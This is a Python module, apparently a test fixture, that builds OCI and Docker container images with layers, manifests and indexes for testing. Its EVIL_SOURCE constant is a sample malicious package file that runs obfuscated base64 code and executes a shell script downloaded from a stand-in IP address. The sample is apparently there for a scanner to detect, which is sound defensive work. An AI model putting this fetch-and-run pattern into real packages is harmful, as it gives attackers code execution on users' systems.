"""Container images, byte by byte: layers, configurations, manifests and indexes, of the OCI image specification and of
Docker's schema 2. The same arguments give the same bytes."""
import gzip
import hashlib
import io
import json
import tarfile

from . import conda, wheels

OCI_MANIFEST = "application/vnd.oci.image.manifest.v1+json"
OCI_INDEX = "application/vnd.oci.image.index.v1+json"
OCI_CONFIG = "application/vnd.oci.image.config.v1+json"
OCI_EMPTY = "application/vnd.oci.empty.v1+json"
OCI_FOREIGN = "application/vnd.oci.image.layer.nondistributable.v1.tar+gzip"
OCI_LAYER = "application/vnd.oci.image.layer.v1.tar"
DOCKER_MANIFEST = "application/vnd.docker.distribution.manifest.v2+json"
DOCKER_LIST = "application/vnd.docker.distribution.manifest.list.v2+json"
DOCKER_CONFIG = "application/vnd.docker.container.image.v1+json"
DOCKER_LAYER = "application/vnd.docker.image.rootfs.diff.tar"
MANIFESTS = (OCI_MANIFEST, OCI_INDEX, DOCKER_MANIFEST, DOCKER_LIST)
DOCUMENTS = {OCI_MANIFEST: ".oci-manifest.json", OCI_INDEX: ".oci-index.json", DOCKER_MANIFEST: ".docker-manifest.json",
             DOCKER_LIST: ".docker-list.json"}
FORMS = ("plain", "gzip", "zstd")


def digest_of(data):
    return "sha256:" + hashlib.sha256(data).hexdigest()


class Blob:
    def __init__(self, media_type, data):
        self.media_type, self.data, self.digest = media_type, data, digest_of(data)

    def descriptor(self, **more):
        return {"mediaType": self.media_type, "digest": self.digest, "size": len(self.data), **more}


class Image:
    """A manifest, its configuration, its layers."""

    def __init__(self, manifest, config, layers, platform):
        self.manifest, self.config, self.layers, self.platform = manifest, config, layers, platform

    @property
    def digest(self):
        return self.manifest.digest

    @property
    def media_type(self):
        return self.manifest.media_type

    @property
    def blobs(self):
        return [self.config, *self.layers]

    @property
    def manifests(self):
        return [self.manifest]


class Index:
    """An index of images, one for each platform."""

    def __init__(self, manifest, images):
        self.manifest, self.images = manifest, images

    @property
    def digest(self):
        return self.manifest.digest

    @property
    def media_type(self):
        return self.manifest.media_type

    @property
    def blobs(self):
        return [blob for image in self.images for blob in image.blobs]

    @property
    def manifests(self):
        return [*(image.manifest for image in self.images), self.manifest]


def document(media_type, value):
    return Blob(media_type, json.dumps(value, indent=1).encode())


def tar(files):
    """Folders of what is in `files` first, as tools write them. A value that is a text: a symbolic link."""
    out = io.BytesIO()
    folders = sorted({path[:i] for path in files for i, c in enumerate(path) if c == "/"})
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as t:
        for path in folders:
            member = tarfile.TarInfo(path)
            member.type, member.mode, member.mtime = tarfile.DIRTYPE, 0o755, 1700000000
            t.addfile(member)
        for path, data in files.items():
            member = tarfile.TarInfo(path)
            member.mode, member.mtime = 0o644, 1700000000
            if isinstance(data, str):
                member.type, member.linkname = tarfile.SYMTYPE, data
                t.addfile(member)
            else:
                member.size = len(data)
                t.addfile(member, io.BytesIO(data))
    return out.getvalue()


def layer(files, form="gzip", docker=False):
    """(blob, diff_id). `files`: {path: bytes}, or the bytes of an archive that is there already."""
    plain = files if isinstance(files, bytes) else tar(files)
    base = DOCKER_LAYER if docker else OCI_LAYER
    if form == "plain":
        return Blob(base, plain), digest_of(plain)
    if form == "zstd":  # Docker's schema 2 never had a type for it
        return Blob(OCI_LAYER + "+zstd", conda.zstd(plain)), digest_of(plain)
    return Blob(base + (".gzip" if docker else "+gzip"), gzip.compress(plain, 6, mtime=0)), digest_of(plain)


def image(layers, docker=False, architecture="amd64", cmd=("/bin/true",), **config_more):
    """`layers`: what layer() gave."""
    config = {"created": "2024-01-01T00:00:00Z", "architecture": architecture, "os": "linux",
              "config": {"Cmd": list(cmd), "Env": ["PATH=/usr/bin:/bin"], "User": "1000"},
              "rootfs": {"type": "layers", "diff_ids": [diff_id for _, diff_id in layers]},
              "history": [{"created": "2024-01-01T00:00:00Z", "created_by": f"COPY {i}"} for i in range(len(layers))],
              **config_more}
    config = Blob(DOCKER_CONFIG if docker else OCI_CONFIG, json.dumps(config).encode())
    media_type = DOCKER_MANIFEST if docker else OCI_MANIFEST
    manifest = document(media_type, {"schemaVersion": 2, "mediaType": media_type, "config": config.descriptor(),
                                     "layers": [blob.descriptor() for blob, _ in layers]})
    return Image(manifest, config, [blob for blob, _ in layers], {"architecture": architecture, "os": "linux"})


def artifact(blobs, artifact_type="application/vnd.example.artifact.v1", **more):
    """What is no image: blobs of any type, and "{}" for a configuration. `more`: keys of the manifest."""
    empty = Blob(OCI_EMPTY, b"{}")
    manifest = document(OCI_MANIFEST, {"schemaVersion": 2, "mediaType": OCI_MANIFEST, "artifactType": artifact_type,
                                       "config": empty.descriptor(), "layers": [b.descriptor() for b in blobs], **more})
    return Image(manifest, empty, blobs, None)


def index(images, docker=False):
    media_type = DOCKER_LIST if docker else OCI_INDEX
    entries = [i.manifest.descriptor(platform=i.platform) for i in images]
    return Index(document(media_type, {"schemaVersion": 2, "mediaType": media_type, "manifests": entries}), images)


def python_package(name, version, files=None):
    """A wheel's members where an installer puts them."""
    members = wheels.members(name, version, files=files)
    return {f"usr/lib/python3/dist-packages/{path}": data for path, data in members.items()}


def base_files(name):
    return {"etc/os-release": f'ID=house\nNAME="{name}"\nVERSION_ID="1"\n'.encode(), "bin/hello": b"#!/bin/sh\necho hello\n",
            "usr/share/doc/hello/README": b"Says hello.\n" * 20, "usr/bin/hello": "../../bin/hello"}


# Run at import, from the network, out of sight: what a package in an image must not do either.
EVIL_SOURCE = b"""import base64, os, subprocess, urllib.request
exec(base64.b64decode("cHJpbnQoJ2hhcm1sZXNzJyk="))
subprocess.Popen(["/bin/sh", "-c", urllib.request.urlopen("http://203.0.113.7/x").read().decode()])
"""


def simple(name, forms=("gzip",), docker=False, architecture="amd64", evil=False, package=True):
    """An image with a layer in each of the forms; the last brings a Python package, by default a good one."""
    layers = [layer({**base_files(name), f"etc/layer-{i}": f"{name} {architecture} {i}\n".encode()}, form, docker)
              for i, form in enumerate(forms)]
    if package or evil:
        members = python_package("greeter", "1.0", {"greeter/run.py": EVIL_SOURCE} if evil else None)
        layers.append(layer({**members, "etc/greeter": name.encode()}, forms[-1], docker))
    return image(layers, docker, architecture)
